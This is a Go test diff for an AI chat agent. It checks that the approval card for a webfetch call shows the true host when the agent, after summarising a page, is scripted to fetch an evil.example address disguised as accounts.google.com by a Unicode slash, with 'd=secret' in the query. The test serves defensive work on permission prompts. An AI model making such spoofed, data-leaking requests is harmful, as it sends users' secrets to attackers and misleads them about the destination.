@@ -619,3 +619,26 @@ func TestAScriptOpensFewAddressesAmongWordsOfOthers(t *testing.T) {
 		t.Errorf("answer %q", answer)
 	}
 }
+
+// The card about an address names the host that is asked.
+func TestTheCardOfAnAddressNamesTheHostThatIsAsked(t *testing.T) {
+	t.Parallel()
+	var talk []everyday
+	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
+		return scripted(talk).Reply(ctx, req)
+	}))
+	newSite := w.withSites(t)
+	pages, evil := newSite("pages.example"), newSite("evil.example", "accounts.google.xn--como-id9a.evil.example")
+	address := strings.Replace(evil, "evil.example", "accounts.google.com\u2215o.evil.example", 1) + "/signin?d=secret"
+	talk = []everyday{
+		{"summarise " + pages + "/post", []everydayCall{{"", "webfetch", fmt.Sprintf(`{"url":%q}`, pages+"/post")}}, noCard},
+		{"thank you", []everydayCall{{"", "webfetch", fmt.Sprintf(`{"url":%q}`, address)}}, asksAddress},
+	}
+	bot := w.run()
+	reader := w.person("Reader")
+	w.goesAs(bot, reader, talk[0])
+	w.goesAs(bot, reader, talk[1])
+	if card, want := w.shownTo(bot, reader, asksAddress).Text, "accounts.google.com⟨U+2215⟩o.evil.example"; !strings.Contains(card, want) {
+		t.Errorf("no %q on the card:\n%s", want, card)
+	}
+}
